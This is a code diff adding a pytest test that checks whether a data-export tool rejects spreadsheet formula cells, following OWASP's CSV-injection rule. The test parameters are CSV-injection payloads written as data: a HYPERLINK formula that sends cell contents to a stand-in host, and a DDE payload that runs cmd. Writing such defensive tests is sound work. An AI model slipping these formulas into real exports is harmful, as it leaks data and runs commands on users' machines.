@@ -220,6 +220,23 @@ def test_hostile_text_round_trips_exactly(export, data_dir: Path, tmp_path: Path
     assert HOSTILE in pq.read_table(tmp_path / "pq" / "positions.parquet").column("summary").to_pylist()
 
 
+@pytest.mark.parametrize("formula", ['=HYPERLINK("https://example.org/?q="&C2&D2,"see source")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"])
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_refused_at_its_line(export, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], formula: str) -> None:
+    """OWASP's rule for CSV injection, kept in the data rather than the export: what pandas reads
+    is the data itself, and no cell begins with = + - @."""
+    path = data_dir / "rounds" / JUNE / "russia.yaml"
+    text = path.read_text()
+    assert "summary: Short local ceasefires to collect the dead." in text
+    path.write_text(text.replace("summary: Short local ceasefires to collect the dead.", f"summary: {json.dumps(formula)}"))
+    code, err = export(str(tmp_path / "csv"))
+    assert code == 2
+    assert "russia.yaml:11:14: error: positions[1].summary: " in err
+    assert f"begins with {formula.strip()[0]!r}: a spreadsheet opening the CSV export would run it as a formula" in err
+    assert not (tmp_path / "csv").exists()
+    assert main(["--data", str(data_dir), "validate"]) == 1
+    capsys.readouterr()
+
+
 def test_csv_cells() -> None:
     assert [csv_cell(v) for v in (None, True, False, 60, 60.0, 2.5, dt.date(2025, 6, 2), "a")] == [
         "", "true", "false", "60", "60", "2.5", "2025-06-02", "a",
